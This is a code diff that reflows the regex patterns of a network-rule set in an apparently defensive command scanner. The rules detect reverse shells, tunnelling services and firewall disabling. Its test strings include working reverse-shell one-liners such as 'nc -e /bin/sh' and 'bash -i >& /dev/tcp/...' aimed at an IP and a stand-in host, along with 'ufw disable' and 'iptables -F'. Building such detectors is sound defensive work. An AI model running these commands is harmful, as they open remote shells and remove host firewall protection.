@@ -20,11 +20,20 @@ NETWORK: tuple[Rule, ...] = (
         why=_WHY,
         harmless="Security training, in a laboratory.",
         check=_CHECK,
-        pattern=rf"\b(?:nc|ncat|netcat)(?:\.traditional|\.openbsd|\.exe)?[ \t][^\n]{{0,80}}?(?:-\w{{0,6}}[ec]\b|--exec|--sh-exec)[ \t]{{1,4}}[\"']?(?:{SHELL}|cmd|powershell)|\b(?:nc|ncat)[ ][^\n|;]{{0,60}}\|[ \t]{{0,4}}(?:/bin/)?(?:ba|z)?sh\b(?![\w.-])|\bmk(?:fifo|nod)\b[^\n]{{0,160}}?\b(?:nc|ncat|netcat|telnet|openssl[ ]s_client)\b"
-        r"|\bsocat\b[^\n]{0,120}?(?:exec|system):[^\n]{0,20}?(?:sh|bash|cmd|powershell)|\b(?:telnet|nc|openssl[ ]s_client)\b[^\n|]{0,80}\|[ \t]{0,4}(?:/bin/)?(?:ba)?sh\b[ \t]{0,4}\||\bmsfvenom\b[^\n]{0,60}-p[ ]|/inet/tcp/\d",
+        pattern=r"\b(?:nc|ncat|netcat)(?:\.traditional|\.openbsd|\.exe)?[ \t][^\n]{0,80}?(?:-\w{0,6}[ec]\b"
+        rf"|--exec|--sh-exec)[ \t]{{1,4}}[\"']?(?:{SHELL}|cmd|powershell)|\b(?:nc|ncat)[ ][^\n"
+        r"|;]{0,60}\|[ \t]{0,4}(?:/bin/)?(?:ba|z)?sh\b(?![\w.-])|\bmk(?:fifo|nod)\b[^\n]{0,160}?\b(?:nc"
+        r"|ncat|netcat|telnet|openssl[ ]s_client)\b"
+        r"|\bsocat\b[^\n]{0,120}?(?:exec|system):[^\n]{0,20}?(?:sh|bash|cmd|powershell)|\b(?:telnet"
+        r"|nc|openssl[ ]s_client)\b[^\n|]{0,80}\|[ \t]{0,4}(?:/bin/)?(?:ba)?sh\b[ \t]{0,4}\||\bmsfvenom\b[^\n]{0,6"
+        r"0}-p[ ]|/inet/tcp/\d",
         hints=("nc", "netcat", "mkfifo", "mknod", "socat", "telnet", "openssl", "msfvenom", "/inet/tcp"),
         at=_MILD,
-        matches=("nc -e /bin/sh 45.9.148.7 4444", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h.example.test 9 > /tmp/f", "nc -l -p 4441 -e /bin/bash"),
+        matches=(
+            "nc -e /bin/sh 45.9.148.7 4444",
+            "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h.example.test 9 > /tmp/f",
+            "nc -l -p 4441 -e /bin/bash",
+        ),
         look_alikes=("nc -z localhost 8080", "socat TCP-LISTEN:80,fork TCP:localhost:8080"),
     ),
     Rule(
@@ -35,7 +44,9 @@ NETWORK: tuple[Rule, ...] = (
         why=_WHY,
         harmless="Security training, in a laboratory.",
         check=_CHECK,
-        pattern=r"\b(?:ba|z|k)?sh[ \t]{1,4}-i[ \t]{0,4}(?:>&|<&|>|&>|\d?>)[^\n]{0,20}/dev/(?:tcp|udp)/|\bexec[ ]\d{1,3}<>[ ]?/dev/(?:tcp|udp)/(?!127\.|localhost)[^\n]{0,80}|(?:0<&|<&|>&)\d{1,3}[^\n]{0,30}/dev/tcp/|/dev/tcp/(?:\$|\d{1,3}\.)[^\n]{0,40}0>&1",
+        pattern=r"\b(?:ba|z|k)?sh[ \t]{1,4}-i[ \t]{0,4}(?:>&|<&|>|&>|\d?>)[^\n]{0,20}/dev/(?:tcp"
+        r"|udp)/|\bexec[ ]\d{1,3}<>[ ]?/dev/(?:tcp|udp)/(?!127\.|localhost)[^\n]{0,80}|(?:0<&"
+        r"|<&|>&)\d{1,3}[^\n]{0,30}/dev/tcp/|/dev/tcp/(?:\$|\d{1,3}\.)[^\n]{0,40}0>&1",
         hints=("/dev/tcp", "/dev/udp"),
         at=_MILD,
         matches=("bash -i >& /dev/tcp/45.9.148.7/4444 0>&1", "exec 5<>/dev/tcp/h.example.test/443"),
@@ -49,7 +60,14 @@ NETWORK: tuple[Rule, ...] = (
         why=_WHY,
         harmless="Security training, in a laboratory.",
         check=_CHECK,
-        pattern=r"\bsocket\b[^\0]{0,400}?\.connect\([^\0]{0,300}?(?:os\.dup2\(|pty\.spawn\(|subprocess\.(?:call|Popen|run)\([^\n]{0,60}?(?:/bin/(?:ba)?sh|cmd\.exe))|\bperl\b[^\n]{0,20}-e[^\n]{0,40}Socket[^\n]{0,300}exec|\bruby\b[^\n]{0,20}-rsocket[^\n]{0,200}(?:exec|spawn|sh[ ]-i)|fsockopen\([^\n]{0,120}(?:exec|shell_exec|proc_open|passthru)\(|TCPClient\([^\0]{0,400}?(?:iex|Invoke-Expression|cmd\.exe|powershell)|net\.(?:connect|Socket|createConnection)\([^\0]{0,240}?(?:spawn|exec)\([\"'](?:/bin/)?(?:ba)?sh|new[ ]Socket\([^\0]{0,200}?getRuntime\(\)\.exec|require\([\"']child_process[\"']\)[^\0]{0,300}?spawn\([\"'](?:/bin/)?(?:ba)?sh[^\0]{0,300}?net\.|net\.Dial\([^\0]{0,300}?exec\.Command\([\"'](?:/bin/)?(?:ba)?sh",
+        pattern=r"\bsocket\b[^\0]{0,400}?\.connect\([^\0]{0,300}?(?:os\.dup2\(|pty\.spawn\(|subprocess\.(?:call"
+        r"|Popen|run)\([^\n]{0,60}?(?:/bin/(?:ba)?sh|cmd\.exe))|\bperl\b[^\n]{0,20}-e[^\n]{0,40}Socket[^\n]{0,300}"
+        r"exec|\bruby\b[^\n]{0,20}-rsocket[^\n]{0,200}(?:exec|spawn|sh[ ]-i)|fsockopen\([^\n]{0,120}(?:exec"
+        r"|shell_exec|proc_open|passthru)\(|TCPClient\([^\0]{0,400}?(?:iex|Invoke-Expression|cmd\.exe"
+        r"|powershell)|net\.(?:connect|Socket|createConnection)\([^\0]{0,240}?(?:spawn|exec)\([\"'](?:/bin/)?(?:ba"
+        r")?sh|new[ ]Socket\([^\0]{0,200}?getRuntime\(\)\.exec|require\([\"']child_process[\"']\)[^\0]{0,300}?spaw"
+        r"n\([\"'](?:/bin/)?(?:ba)?sh[^\0]{0,300}?net\.|net\.Dial\([^\0]{0,300}?exec\.Command\([\"'](?:/bin/)?(?:b"
+        r"a)?sh",
         hints=("socket", "fsockopen", "tcpclient", "net.", "child_process"),
         at=_MILD,
         matches=(
@@ -66,7 +84,9 @@ NETWORK: tuple[Rule, ...] = (
         why="Whoever knows the address reaches a service meant for you alone.",
         harmless="Showing somebody a page you are working on.",
         check="Which port, for how long, with which password?",
-        pattern=r"\bngrok[ ](?:http|tcp|start)\b|\bcloudflared[ ]tunnel\b|\blocaltunnel\b|\blt[ ]--port\b|\bserveo\.net\b|\blocalhost\.run\b|\bssh[ ][^\n]{0,60}-R[ ]?\d{0,5}:|\bbore[ ]local\b|\btailscale[ ]funnel\b",
+        pattern=r"\bngrok[ ](?:http|tcp|start)\b|\bcloudflared[ ]tunnel\b|\blocaltunnel\b|\blt[ ]--port\b"
+        r"|\bserveo\.net\b|\blocalhost\.run\b|\bssh[ ][^\n]{0,60}-R[ ]?\d{0,5}:|\bbore[ ]local\b"
+        r"|\btailscale[ ]funnel\b",
         hints=("ngrok", "cloudflared", "localtunnel", "lt --port", "serveo", "localhost.run", "ssh", "bore ", "funnel"),
         matches=("ngrok http 8080", "ssh -R 80:localhost:3000 serveo.net"),
         look_alikes=("ssh -L 80:localhost:3000 host", "The tunnel is long."),
@@ -146,7 +166,8 @@ NETWORK: tuple[Rule, ...] = (
         why="Everything that listens on the machine can be reached.",
         harmless="Opening one port for a service of yours.",
         check="Which port is needed?",
-        pattern=r"\bufw[ ]disable\b|\biptables[ ]-F\b|\bsetenforce[ ]0\b|\bsystemctl[ ](?:stop|disable)[ ](?:firewalld|ufw|apparmor|auditd)\b|Set-NetFirewallProfile\b[^\n]{0,60}False",
+        pattern=r"\bufw[ ]disable\b|\biptables[ ]-F\b|\bsetenforce[ ]0\b|\bsystemctl[ ](?:stop"
+        r"|disable)[ ](?:firewalld|ufw|apparmor|auditd)\b|Set-NetFirewallProfile\b[^\n]{0,60}False",
         hints=("ufw", "iptables", "setenforce", "systemctl", "firewallprofile"),
         at={Kind.REFERENCE: Severity.LOW},
         matches=("ufw disable", "iptables -F"),
